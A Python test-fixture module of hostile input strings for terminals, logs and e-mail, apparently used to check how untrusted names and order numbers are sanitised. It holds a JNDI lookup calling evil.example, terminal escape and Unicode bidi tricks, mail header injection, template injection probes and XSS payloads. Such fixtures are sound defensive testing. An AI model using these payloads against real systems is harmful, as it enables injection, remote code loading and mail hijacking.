"""What hostile partners and servers write where a name, a number or a sentence is expected."""

#: A marker that must never begin a line of its own.
FORGED = "FORGED-LINE"

#: For terminals and logs: new lines, moves of the cursor, colours, links, direction, look-ups, our markup.
FOR_TERMINALS = (
    f"A\n{FORGED}",
    f"A\r\n{FORGED}",
    f"A\r{FORGED}",
    f"A\x0b{FORGED}\x0c{FORGED}",
    f"A\x85{FORGED}",
    f"A\u2028{FORGED}\u2029{FORGED}",
    "A\x1b[2J\x1b[1;1H\x1b[31m",
    "A\x9b31m\x9b2J",
    "A\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "A\x1b]0;title\x07\x07",
    "A\x08\x08\x7f",
    "A\x00B",
    "A\u202e4321\u202c\u2066\u200f",
    "A\ufeff\u200b\u00ad",
    "A\udce9",  # a byte of a name that is not UTF-8
    "${jndi:ldap://evil.example/a}",
    "[red]A[/red]",
    "[link=https://evil.example]A[/link]",
    "[/]",
    "A\\",
    ":warning: :x:",
    "%s%n%(name)s{0}{name}",
)


def one_byte(text: str) -> str:
    """The text as X12 can carry it: latin-1, without what our test files use as delimiters."""
    plain = text.encode("latin-1", "ignore").decode("latin-1")
    return "".join("_" if letter in "*~>" else letter for letter in plain)


#: For e-mail: headers that would grow, templates that would run, markup; short enough for an order number.
FOR_MAIL = (
    "A=?q?=0D=0ABcc=3Av=40x?=",
    "=?utf-8?q?a=0D=0AB:_x?=",
    "=?utf-8?b?DQpCY2M6IHZAeA==?=",
    "A\x85Bcc:v@evil.example",
    "A\x0bBcc:v@x\x0cCc:w@x",
    "A\x00Bcc: v@evil.example",
    "Z{{7*7}}Z",
    "Z{% raw %}{{7}}Z",
    "Z{{''.__class__.mro()}}Z",
    "Z{{'a'*10**8}}Z",
    "Z{# x #}Z",
    "Z${7*7}#{7*7}<%=7*7%>Z",
    "<script>alert(1)</script>",
    "<img src=x onerror=a()>",
    "</td></table><h1>Pay",
    "\"'><a href=//evil>x",
    "<!--[if mso]><!-->",
    "&lt;b&gt;&#0;&nbsp;",
    ".",
    "9" * 300,
)
